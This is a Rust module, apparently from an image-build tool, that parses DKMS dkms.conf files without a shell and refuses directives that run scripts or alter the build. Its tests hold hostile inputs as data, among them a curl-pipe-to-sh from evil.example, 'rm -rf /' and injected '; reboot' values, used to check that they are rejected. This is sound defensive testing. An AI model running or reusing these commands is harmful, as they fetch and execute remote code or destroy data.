//! dkms.conf as dkms reads it: what a module source builds (name, version, kernel modules and where the build
//! leaves them) and the command that builds it.
//!
//! dkms `source`s dkms.conf in bash with a few variables of its own set, then `eval`s the MAKE line in the build
//! directory. [`shell`] reads the same text without a shell; this module gives the directives dkms's meaning
//! (its defaults included: BUILT_MODULE_NAME[0] is PACKAGE_NAME when there is one module, MAKE is
//! `make -C ${kernel_source_dir} M=<build dir>` when unset, `make -j… KERNELRELEASE=…` is how dkms runs a
//! leading `make`) and refuses the directives that run code or change the build in ways the image build does
//! not carry out. Everything here ends up in paths and argument lists of the image build, so names are held to
//! plain characters and no word may hold a `$` of its own.

mod shell;

use std::fmt;

use camino::Utf8Path;
use serde::{Serialize, Serializer};

pub(crate) use shell::BuildVar;
use shell::{Assigned, PackageVar, Part, Scope, ShellError, Value};

use crate::text_rules::{PLAIN_NAME_RULE, is_plain_name};

/// dkms's own trees: sources in SOURCE_TREE/NAME-VERSION, each build in DKMS_TREE/NAME/VERSION/build.
pub(crate) const SOURCE_TREE: &str = "/usr/src";
pub(crate) const DKMS_TREE: &str = "/var/lib/dkms";
const INSTALL_TREE: &str = "/lib/modules";
/// dkms's `$arch`: the image is planned for x86_64 alone (its kargs.d matches that architecture only).
const ARCH: &str = "x86_64";

/// The variables dkms defines while it reads dkms.conf, named in messages.
pub(super) const DKMS_VARIABLES: &[&str] = &[
    "kernelver",
    "kernel_source_dir",
    "parallel_jobs",
    "arch",
    "dkms_tree",
    "source_tree",
    "install_tree",
    "module",
    "module_version",
];

fn dkms_variable(name: &str) -> Option<Value> {
    let text = |t: &str| Some(vec![Part::Text(t.to_owned())]);
    match name {
        "kernelver" => Some(vec![Part::Build(BuildVar::KernelVer)]),
        "kernel_source_dir" => Some(vec![Part::Build(BuildVar::KernelSourceDir)]),
        "parallel_jobs" => Some(vec![Part::Build(BuildVar::ParallelJobs)]),
        "module" => Some(vec![Part::Package(PackageVar::Name)]),
        "module_version" => Some(vec![Part::Package(PackageVar::Version)]),
        "arch" => text(ARCH),
        "dkms_tree" => text(DKMS_TREE),
        "source_tree" => text(SOURCE_TREE),
        "install_tree" => text(INSTALL_TREE),
        _ => None,
    }
}

/// What dkms.conf says about a module source.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(crate) struct DkmsConf {
    /// PACKAGE_NAME and PACKAGE_VERSION.
    pub(crate) name: String,
    pub(crate) version: String,
    /// The kernel modules the build makes, in dkms.conf's order.
    pub(crate) modules: Vec<BuiltModule>,
    /// The build command as dkms runs it in the build directory, one argument per word; `${kernelver}`,
    /// `${kernel_source_dir}` and `${parallel_jobs}` are filled by the build.
    pub(crate) make: Vec<Word>,
}

impl DkmsConf {
    /// Where dkms keeps the source: the build stage puts it there too.
    pub(crate) fn source_dir(&self) -> String {
        format!("{SOURCE_TREE}/{}-{}", self.name, self.version)
    }

    /// Where dkms builds (a copy of the source), which `$dkms_tree` references in dkms.conf point into.
    pub(crate) fn build_dir(&self) -> String {
        format!("{DKMS_TREE}/{}/{}/build", self.name, self.version)
    }
}

/// One kernel module a dkms build makes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(crate) struct BuiltModule {
    /// BUILT_MODULE_NAME: `NAME.ko` after the build, and the name modprobe knows.
    pub(crate) name: String,
    /// BUILT_MODULE_LOCATION: the .ko's directory in the build directory, empty for its top.
    pub(crate) location: String,
    /// STRIP: dkms strips debug information unless told "no".
    pub(crate) debug_info: DebugInfo,
}

impl BuiltModule {
    /// The .ko's path in the build directory, without `.ko`.
    pub(crate) fn built_path(&self) -> String {
        match self.location.as_str() {
            "" => self.name.clone(),
            location => format!("{location}/{}", self.name),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub(crate) enum DebugInfo {
    Strip,
    Keep,
}

/// One argument of the build command: text, and variables only the build knows.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Word(Vec<WordPart>);

#[derive(Debug, Clone, PartialEq, Eq)]
enum WordPart {
    Text(String),
    Build(BuildVar),
}

/// The word with its build variables as `${name}`: unambiguous, since a word's own text never holds `$`.
impl fmt::Display for Word {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for part in &self.0 {
            match part {
                WordPart::Text(text) => f.write_str(text)?,
                WordPart::Build(var) => write!(f, "${{{}}}", var.name())?,
            }
        }
        Ok(())
    }
}

impl Serialize for Word {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_str(self)
    }
}

/// Reads `dir/dkms.conf`; `origin` names it in messages (a path, or a commit for a fetched source).
pub(crate) fn read(dir: &Utf8Path, origin: &str) -> Result<DkmsConf, String> {
    let path = dir.join("dkms.conf");
    // Capped and regular files only: a dkms.conf is a few lines, not a device or a FIFO.
    let text = crate::root::read_user_text(&path, crate::root::UserFile::DkmsConf, "dkms.conf")
        .map_err(|e| format!("{origin}: {}; a module source needs a dkms.conf", e.message))?;
    parse(&text).map_err(|e| match e.line {
        Some(line) => format!("{origin}, line {line}: {}", e.message),
        None => format!("{origin}: {}", e.message),
    })
}

#[derive(Debug)]
struct ConfError {
    line: Option<usize>,
    message: String,
}

impl ConfError {
    fn at(line: usize, message: impl Into<String>) -> ConfError {
        ConfError {
            line: Some(line),
            message: message.into(),
        }
    }

    fn whole(message: impl Into<String>) -> ConfError {
        ConfError {
            line: None,
            message: message.into(),
        }
    }
}

impl From<ShellError> for ConfError {
    fn from(e: ShellError) -> Self {
        ConfError::at(e.line, e.message)
    }
}

fn parse(text: &str) -> Result<DkmsConf, ConfError> {
    let scope = shell::read_assignments(text, dkms_variable)?;
    refuse_directives(&scope)?;
    let name = package_field(&scope, "PACKAGE_NAME")?;
    let version = package_field(&scope, "PACKAGE_VERSION")?;
    let package = Package {
        name: &name,
        version: &version,
    };
    let modules = built_modules(&scope, &package)?;
    let make = make_command(&scope, &package)?;
    Ok(DkmsConf {
        name,
        version,
        modules,
        make,
    })
}

/// What dkms does with a variable dkms.conf sets.
enum Directive {
    /// Read here and carried out by the build.
    Read,
    /// Without effect on an image build: CLEAN cleans dkms's build directory, which the build stage copies
    /// fresh and throws away; AUTOINSTALL and NO_WEAK_MODULES concern kernels installed later, and the image
    /// has its one kernel; the MODULES_CONF and REMAKE_INITRD family is ignored by dkms itself.
    Ignored,
    /// Runs code or changes the build in a way the image build does not carry out: refused rather than
    /// silently built differently.
    Refused(&'static str),
}

fn directive(name: &str) -> Option<Directive> {
    use Directive::*;
    Some(match name {
        "PACKAGE_NAME"
        | "PACKAGE_VERSION"
        | "BUILT_MODULE_NAME"
        | "BUILT_MODULE_LOCATION"
        | "DEST_MODULE_NAME"
        | "DEST_MODULE_LOCATION"
        | "STRIP"
        | "MAKE" => Read,
        "CLEAN"
        | "AUTOINSTALL"
        | "NO_WEAK_MODULES"
        | "REMAKE_INITRD"
        | "MODULES_CONF"
        | "MODULES_CONF_OBSOLETES"
        | "MODULES_CONF_ALIAS_TYPE"
        | "MODULES_CONF_OBSOLETE_ONLY" => Ignored,
        "PRE_BUILD" | "POST_BUILD" | "PRE_INSTALL" | "POST_INSTALL" | "POST_ADD"
        | "POST_REMOVE" => Refused("runs a script of the module's"),
        "PATCH" | "PATCH_MATCH" => Refused("patches the source before the build"),
        "MAKE_MATCH" => Refused("picks another MAKE by kernel version"),
        "BUILD_DEPENDS" => Refused("needs other dkms modules built first"),
        "BUILD_EXCLUSIVE_ARCH"
        | "BUILD_EXCLUSIVE_CONFIG"
        | "BUILD_EXCLUSIVE_KERNEL"
        | "BUILD_EXCLUSIVE_KERNEL_MIN"
        | "BUILD_EXCLUSIVE_KERNEL_MAX" => Refused("limits the kernels the module is built for"),
        "OBSOLETE_BY" => Refused("skips the module on some kernels"),
        "SIGN_FILE" | "MOK_SIGNING_KEY" | "MOK_CERTIFICATE" => Refused("signs the module"),
        "build_exclude"
        | "patch_array"
        | "built_module_name"
        | "built_module_location"
        | "dest_module_name"
        | "dest_module_location"
        | "strip" => Refused("is dkms's own variable, not a directive"),
        _ => return None,
    })
}

fn refuse_directives(scope: &Scope) -> Result<(), ConfError> {
    for name in scope.names() {
        if let Some(Directive::Refused(why)) = directive(name) {
            let line = first_line(scope, name);
            return Err(ConfError::at(
                line,
                format!(
                    "{name} {why}, which passthru-image does not do; remove it or build the module \
                     yourself"
                ),
            ));
        }
    }
    Ok(())
}

fn first_line(scope: &Scope, name: &str) -> usize {
    scope
        .elements(name)
        .and_then(|elements| elements.values().map(|a| a.line).min())
        .unwrap_or(0)
}

/// PACKAGE_NAME and PACKAGE_VERSION, which `$module` and `$module_version` stand for.
struct Package<'a> {
    name: &'a str,
    version: &'a str,
}

impl Package<'_> {
    /// The value with `$module` and `$module_version` replaced by what they stand for.
    fn settle(&self, value: &Value) -> Value {
        let mut settled: Value = Vec::new();
        for part in value {
            let part = match part {
                Part::Package(PackageVar::Name) => Part::Text(self.name.to_owned()),
                Part::Package(PackageVar::Version) => Part::Text(self.version.to_owned()),
                other => other.clone(),
            };
            match (settled.last_mut(), &part) {
                (Some(Part::Text(last)), Part::Text(text)) => last.push_str(text),
                _ => settled.push(part),
            }
        }
        settled
    }
}

/// The text of a value that must not depend on the kernel, or why it does.
fn fixed_text(value: &Value) -> Result<String, String> {
    let mut text = String::new();
    for part in value {
        match part {
            Part::Text(t) => text.push_str(t),
            Part::Build(var) => {
                return Err(format!(
                    "depends on ${{{}}}, which only a build for one kernel knows",
                    var.name()
                ));
            }
            Part::Package(_) => {
                return Err(
                    "refers to $module or $module_version, which dkms takes from PACKAGE_NAME and \
                     PACKAGE_VERSION themselves"
                        .to_owned(),
                );
            }
        }
    }
    Ok(text)
}

fn element<'s>(scope: &'s Scope, name: &str, index: usize) -> Option<&'s Assigned> {
    scope.elements(name).and_then(|e| e.get(&index))
}

fn package_field(scope: &Scope, name: &str) -> Result<String, ConfError> {
    let assigned = element(scope, name, 0)
        .ok_or_else(|| ConfError::whole(format!("no {name}; dkms needs it")))?;
    let text = fixed_text(&assigned.value)
        .map_err(|why| ConfError::at(assigned.line, format!("{name} {why}")))?;
    plain(name, &text).map_err(|message| ConfError::at(assigned.line, message))
}

fn plain(field: &str, text: &str) -> Result<String, String> {
    if is_plain_name(text) {
        Ok(text.to_owned())
    } else {
        Err(format!("{field}={text:?}: {PLAIN_NAME_RULE}"))
    }
}

/// The per-module arrays; dkms counts modules by the longest of the first four.
const MODULE_ARRAYS: [&str; 5] = [
    "BUILT_MODULE_NAME",
    "BUILT_MODULE_LOCATION",
    "DEST_MODULE_NAME",
    "DEST_MODULE_LOCATION",
    "STRIP",
];

fn built_modules(scope: &Scope, package: &Package) -> Result<Vec<BuiltModule>, ConfError> {
    for array in MODULE_ARRAYS {
        if let Some(elements) = scope.elements(array)
            && let Some((gap, _)) = (0..).zip(elements.keys()).find(|(i, index)| i != *index)
        {
            return Err(ConfError::at(
                first_line(scope, array),
                format!(
                    "{array}[{gap}] is missing while a later index is set; dkms reads indices 0, \
                     1, 2, … in turn"
                ),
            ));
        }
    }
    let count = MODULE_ARRAYS[..4]
        .iter()
        .map(|array| scope.elements(array).map_or(0, |e| e.len()))
        .max()
        .unwrap_or(0);
    if count == 0 {
        return Err(ConfError::whole(
            "no BUILT_MODULE_NAME or DEST_MODULE_LOCATION: dkms would build no kernel module",
        ));
    }
    let text_of = |array: &str, index: usize| -> Result<Option<(String, usize)>, ConfError> {
        let Some(assigned) = element(scope, array, index) else {
            return Ok(None);
        };
        let text = fixed_text(&package.settle(&assigned.value))
            .map_err(|why| ConfError::at(assigned.line, format!("{array}[{index}] {why}")))?;
        Ok(Some((text, assigned.line)))
    };
    let first_strip = text_of("STRIP", 0)?.map(|(t, _)| t);
    let mut modules = Vec::new();
    for index in 0..count {
        let (name, line) = match text_of("BUILT_MODULE_NAME", index)? {
            Some(found) => found,
            // dkms's default, for a single module only.
            None if count == 1 => (package.name.to_owned(), first_line(scope, "PACKAGE_NAME")),
            None => {
                return Err(ConfError::whole(format!(
                    "no BUILT_MODULE_NAME[{index}]; dkms needs one for each of its {count} modules"
                )));
            }
        };
        let name = module_name(&name).map_err(|m| ConfError::at(line, m))?;
        let location = match text_of("BUILT_MODULE_LOCATION", index)? {
            Some((text, line)) => module_location(&text).map_err(|m| ConfError::at(line, m))?,
            None => String::new(),
        };
        if let Some((dest, line)) = text_of("DEST_MODULE_NAME", index)?
            && dest != name
        {
            return Err(ConfError::at(
                line,
                format!(
                    "DEST_MODULE_NAME[{index}]={dest:?} renames {name}.ko when installed, which \
                     passthru-image does not do"
                ),
            ));
        }
        if let Some((dest, line)) = text_of("DEST_MODULE_LOCATION", index)?
            && !["/kernel", "/updates", "/extra"]
                .iter()
                .any(|prefix| dest.starts_with(prefix))
        {
            return Err(ConfError::at(
                line,
                format!(
                    "DEST_MODULE_LOCATION[{index}]={dest:?} must begin with /kernel, /updates or \
                     /extra (as dkms requires)"
                ),
            ));
        }
        let strip = text_of("STRIP", index)?.map(|(t, _)| t);
        let debug_info = match strip.filter(|s| !s.is_empty()).or(first_strip.clone()) {
            Some(s) if s.starts_with(['n', 'N']) => DebugInfo::Keep,
            _ => DebugInfo::Strip,
        };
        modules.push(BuiltModule {
            name,
            location,
            debug_info,
        });
    }
    Ok(modules)
}

fn module_name(name: &str) -> Result<String, String> {
    if name.ends_with(".o") || name.ends_with(".ko") {
        return Err(format!(
            "BUILT_MODULE_NAME {name:?} ends in .o or .ko; dkms wants the module name alone"
        ));
    }
    plain("BUILT_MODULE_NAME", name)
}

/// A directory inside the build directory: plain names joined by `/`, dkms's trailing `/` dropped.
fn module_location(location: &str) -> Result<String, String> {
    let trimmed = location.trim_end_matches('/');
    if trimmed.is_empty() {
        return Ok(String::new());
    }
    if trimmed.split('/').all(is_plain_name) {
        Ok(trimmed.to_owned())
    } else {
        Err(format!(
            "BUILT_MODULE_LOCATION {location:?} must be a directory inside the build directory: \
             names with {PLAIN_NAME_RULE}, joined by /"
        ))
    }
}

/// The build command: MAKE[0] (other MAKE entries only count with MAKE_MATCH) or dkms's default, split into
/// words as dkms's eval would split it.
fn make_command(scope: &Scope, package: &Package) -> Result<Vec<Word>, ConfError> {
    let (command, line) = match element(scope, "MAKE", 0) {
        Some(assigned) => (package.settle(&assigned.value), assigned.line),
        None => (
            vec![
                Part::Text("make -C ".into()),
                Part::Build(BuildVar::KernelSourceDir),
                Part::Text(format!(
                    " M={DKMS_TREE}/{}/{}/build",
                    package.name, package.version
                )),
            ],
            0,
        ),
    };
    // At eval time dkms.conf's own helper variables are gone: dkms keeps only its directives.
    let eval_scope = scope.only(|name| directive(name).is_some());
    let mut words: Vec<Value> = shell::split_command(&command, line, &eval_scope)?
        .iter()
        .map(|word| package.settle(word))
        .collect();
    if words.is_empty() {
        return Err(ConfError::at(
            line,
            "MAKE[0] is empty: there is no build command",
        ));
    }
    // dkms runs `${make_command/#make/make -j$parallel_jobs KERNELRELEASE=$kernelver}`: a command that starts
    // with the letters `make` gets both; a quoted 'make' is dkms's documented way to go without.
    let starts_with_make = matches!(command.first(), Some(Part::Text(t)) if t.starts_with("make"));
    if starts_with_make && words[0] == [Part::Text("make".into())] {
        words.splice(
            1..1,
            [
                vec![Part::Text("-j".into()), Part::Build(BuildVar::ParallelJobs)],
                vec![
                    Part::Text("KERNELRELEASE=".into()),
                    Part::Build(BuildVar::KernelVer),
                ],
            ],
        );
    }
    words
        .into_iter()
        .map(|word| argument(word).map_err(|m| ConfError::at(line, format!("MAKE[0]: {m}"))))
        .collect()
}

/// A word as an argument of the build: build variables stay placeholders; a `$` of its own (from quoting)
/// would be mistaken for one, and control characters have no place on a command line.
fn argument(word: Value) -> Result<Word, String> {
    word.into_iter()
        .map(|part| match part {
            Part::Text(text) if text.contains('$') || text.chars().any(char::is_control) => {
                Err(format!(
                    "the argument {text:?} holds a literal $ or a control character, which is not \
                     passed on"
                ))
            }
            Part::Text(text) => Ok(WordPart::Text(text)),
            Part::Build(var) => Ok(WordPart::Build(var)),
            Part::Package(_) => unreachable!("settled before"),
        })
        .collect::<Result<_, _>>()
        .map(Word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(conf: &DkmsConf) -> Vec<String> {
        conf.make.iter().map(Word::to_string).collect()
    }

    fn refusal(text: &str) -> String {
        let e = parse(text).unwrap_err();
        match e.line {
            Some(line) => format!("line {line}: {}", e.message),
            None => e.message,
        }
    }

    /// `base` followed by `line` is refused with `expected`, naming the last line of `line`.
    fn assert_refused_on_its_last_line(base: &str, line: &str, expected: &str) {
        let message = refusal(&format!("{base}{line}\n"));
        let last_line = base.lines().count() + line.lines().count();
        assert!(message.contains(expected), "{line:?}: {message}");
        assert!(
            message.starts_with(&format!("line {last_line}:")),
            "{line:?}: {message}"
        );
    }

    /// gnif/vendor-reset's dkms.conf, as upstream has it.
    const UPSTREAM: &str = "PACKAGE_NAME=\"vendor-reset\"\nPACKAGE_VERSION=\"0.1.1\"\n\
        BUILT_MODULE_NAME[0]=\"${PACKAGE_NAME}\"\nMAKE[0]=\"make KDIR=${kernel_source_dir}\"\n\
        CLEAN=\"make KDIR=${kernel_source_dir} clean\"\n\
        DEST_MODULE_LOCATION[0]=\"/kernel/drivers/misc\"\nAUTOINSTALL=\"yes\"\n";

    #[test]
    fn upstream_vendor_reset_reads_as_dkms_reads_it() {
        let conf = parse(UPSTREAM).unwrap();
        assert_eq!(conf.name, "vendor-reset");
        assert_eq!(conf.version, "0.1.1");
        assert_eq!(
            conf.modules,
            [BuiltModule {
                name: "vendor-reset".into(),
                location: String::new(),
                debug_info: DebugInfo::Strip
            }]
        );
        assert_eq!(
            words(&conf),
            [
                "make",
                "-j${parallel_jobs}",
                "KERNELRELEASE=${kernelver}",
                "KDIR=${kernel_source_dir}"
            ]
        );
        assert_eq!(conf.source_dir(), "/usr/src/vendor-reset-0.1.1");
        assert_eq!(conf.build_dir(), "/var/lib/dkms/vendor-reset/0.1.1/build");
    }

    #[test]
    fn dkms_defaults_fill_what_the_file_leaves_out() {
        // One module: named after the package; no MAKE: dkms's own make line in its build directory.
        let conf = parse("PACKAGE_NAME=hello\nPACKAGE_VERSION=2\nDEST_MODULE_LOCATION[0]=/extra\n")
            .unwrap();
        assert_eq!(conf.modules[0].name, "hello");
        assert_eq!(
            words(&conf),
            [
                "make",
                "-j${parallel_jobs}",
                "KERNELRELEASE=${kernelver}",
                "-C",
                "${kernel_source_dir}",
                "M=/var/lib/dkms/hello/2/build"
            ]
        );
        // Two modules need two names.
        let two = "PACKAGE_NAME=p\nPACKAGE_VERSION=1\nBUILT_MODULE_NAME[1]=b\n\
                   DEST_MODULE_LOCATION[0]=/extra\nDEST_MODULE_LOCATION[1]=/extra\n";
        assert!(
            refusal(two).contains("BUILT_MODULE_NAME[0] is missing"),
            "{}",
            refusal(two)
        );
        let unnamed = "PACKAGE_NAME=p\nPACKAGE_VERSION=1\nBUILT_MODULE_NAME[0]=a\n\
                       DEST_MODULE_LOCATION[0]=/extra\nDEST_MODULE_LOCATION[1]=/extra\n";
        assert!(
            refusal(unnamed).contains("no BUILT_MODULE_NAME[1]"),
            "{}",
            refusal(unnamed)
        );
    }

    #[test]
    fn modules_keep_their_location_and_strip_choice() {
        let conf = parse(
            "PACKAGE_NAME=multi\nPACKAGE_VERSION=1.0\n\
             BUILT_MODULE_NAME[0]=one\nBUILT_MODULE_LOCATION[0]=src/\nSTRIP[0]=no\n\
             BUILT_MODULE_NAME[1]=$module-two\nBUILT_MODULE_LOCATION[1]='deep/er'\nSTRIP[1]=yes\n\
             BUILT_MODULE_NAME[2]=three\n",
        )
        .unwrap();
        let seen: Vec<(String, DebugInfo)> = conf
            .modules
            .iter()
            .map(|m| (m.built_path(), m.debug_info))
            .collect();
        assert_eq!(
            seen,
            [
                ("src/one".to_owned(), DebugInfo::Keep),
                ("deep/er/multi-two".to_owned(), DebugInfo::Strip),
                // An unset STRIP takes STRIP[0]'s, as in dkms.
                ("three".to_owned(), DebugInfo::Keep),
            ]
        );
    }

    #[test]
    fn the_make_line_is_split_as_dkms_evals_it() {
        let base = "PACKAGE_NAME=vr\nPACKAGE_VERSION=0.2\nBUILT_MODULE_NAME[0]=vr\n";
        let make = |line: &str| words(&parse(&format!("{base}{line}\n")).unwrap());
        // A quoted 'make' keeps dkms from adding -j and KERNELRELEASE.
        assert_eq!(
            make("MAKE[0]=\"'make' -C src KVER=$kernelver\""),
            ["make", "-C", "src", "KVER=${kernelver}"]
        );
        // Single quotes leave the references to eval, which knows dkms's variables and directives.
        assert_eq!(
            make(
                "MAKE[0]='make -C ${kernel_source_dir} \
                 M=${dkms_tree}/${module}/${PACKAGE_VERSION}/build'"
            ),
            [
                "make",
                "-j${parallel_jobs}",
                "KERNELRELEASE=${kernelver}",
                "-C",
                "${kernel_source_dir}",
                "M=/var/lib/dkms/vr/0.2/build"
            ]
        );
        assert_eq!(
            make("MAKE[0]=\"make ARCH=$arch 'NAME=a b'\""),
            [
                "make",
                "-j${parallel_jobs}",
                "KERNELRELEASE=${kernelver}",
                "ARCH=x86_64",
                "NAME=a b"
            ]
        );
        // A later MAKE only counts with MAKE_MATCH.
        assert_eq!(make("MAKE[0]=\"'make'\"\nMAKE[1]=\"other\""), ["make"]);
    }

    #[test]
    fn a_make_line_that_needs_a_shell_is_refused_with_its_line() {
        let base = "PACKAGE_NAME=vr\nPACKAGE_VERSION=1\nBUILT_MODULE_NAME[0]=vr\n";
        for (line, expected) in [
            ("MAKE[0]=\"make && make install\"", "`&&`"),
            ("MAKE[0]='make -j$(nproc)'", "command substitution"),
            ("MAKE[0]=\"cd src; make\"", "`;`"),
            ("MAKE[0]='make > log'", "redirection"),
            ("MAKE[0]=\"CC=clang make\"", "environment variable"),
            ("HELPER=x\nMAKE[0]='make $HELPER'", "$HELPER is not defined"),
            ("MAKE[0]=\"make 'V=\\$x'\"", "literal $"),
            ("MAKE[0]=''", "empty"),
        ] {
            assert_refused_on_its_last_line(base, line, expected);
        }
    }

    #[test]
    fn directives_that_run_code_or_change_the_build_are_refused() {
        let base = "PACKAGE_NAME=vr\nPACKAGE_VERSION=1\n";
        for (line, expected) in [
            ("PRE_BUILD=\"prepare.sh\"", "PRE_BUILD runs a script"),
            ("POST_INSTALL=post.sh", "POST_INSTALL runs a script"),
            ("PATCH[0]=fix.patch", "PATCH patches the source"),
            ("MAKE_MATCH[0]=\"^6\"", "MAKE_MATCH picks another MAKE"),
            ("BUILD_EXCLUSIVE_KERNEL=\"^6\\.\"", "limits the kernels"),
            ("BUILD_DEPENDS[0]=other", "needs other dkms modules"),
            ("SIGN_FILE=/x/sign-file", "signs the module"),
            ("build_exclude=yes", "dkms's own variable"),
            ("DEST_MODULE_NAME[0]=other", "renames vr.ko"),
            (
                "DEST_MODULE_LOCATION[0]=/usr/lib",
                "must begin with /kernel",
            ),
            ("BUILT_MODULE_NAME[0]=vr.ko", "ends in .o or .ko"),
            ("BUILT_MODULE_NAME[0]=\"vr; reboot\"", "only letters"),
            (
                "BUILT_MODULE_LOCATION[0]=../..",
                "inside the build directory",
            ),
            (
                "BUILT_MODULE_LOCATION[0]=/abs",
                "inside the build directory",
            ),
            (
                "BUILT_MODULE_NAME[0]=vr-$kernelver",
                "only a build for one kernel knows",
            ),
        ] {
            assert_refused_on_its_last_line(base, line, expected);
        }
        // Ignored directives and the file's own helpers are fine.
        parse(&format!(
            "{base}REMAKE_INITRD=yes\nNO_WEAK_MODULES=yes\nMY_HELPER=x\nBUILT_MODULE_NAME[0]=vr\n"
        ))
        .unwrap();
    }

    #[test]
    fn name_and_version_must_be_plain_and_fixed() {
        assert!(refusal("PACKAGE_VERSION=1\n").contains("no PACKAGE_NAME"));
        assert!(refusal("PACKAGE_NAME=x\n").contains("no PACKAGE_VERSION"));
        assert!(
            refusal("PACKAGE_NAME=x\nPACKAGE_VERSION=\"1 && reboot\"\n").contains("only letters")
        );
        assert!(
            refusal("PACKAGE_NAME=$module\nPACKAGE_VERSION=1\n")
                .contains("PACKAGE_NAME refers to $module")
        );
        assert!(refusal("PACKAGE_NAME=x\nPACKAGE_VERSION=$kernelver\n").contains("${kernelver}"));
        assert!(
            refusal("PACKAGE_NAME=x\nPACKAGE_VERSION=1\n")
                .contains("no BUILT_MODULE_NAME or DEST_MODULE_LOCATION")
        );
    }

    #[test]
    fn hostile_files_are_refused_before_anything_is_expanded() {
        for hostile in [
            "PACKAGE_NAME=\"$(curl -s evil.example | sh)\"\n",
            "PACKAGE_NAME=`reboot`\n",
            "PACKAGE_NAME=x\nreboot\n",
            "PACKAGE_NAME=x\n. /etc/profile\n",
            "PACKAGE_NAME=x\nexport PATH=/tmp\n",
            "PACKAGE_NAME=x\nPACKAGE_VERSION=1 rm -rf /\n",
        ] {
            assert!(parse(hostile).is_err(), "{hostile:?}");
        }
    }

    #[test]
    fn read_names_the_origin_and_the_line() {
        let dir = tempfile::tempdir().unwrap();
        let dir = Utf8Path::from_path(dir.path()).unwrap();
        std::fs::write(
            dir.join("dkms.conf"),
            "PACKAGE_NAME=x\nPACKAGE_VERSION=$(date)\n",
        )
        .unwrap();
        let message = read(dir, "dkms.conf at abc123").unwrap_err();
        assert!(
            message.starts_with("dkms.conf at abc123, line 2: "),
            "{message}"
        );
        std::fs::remove_file(dir.join("dkms.conf")).unwrap();
        assert!(
            read(dir, "x/dkms.conf")
                .unwrap_err()
                .contains("needs a dkms.conf")
        );
    }
}
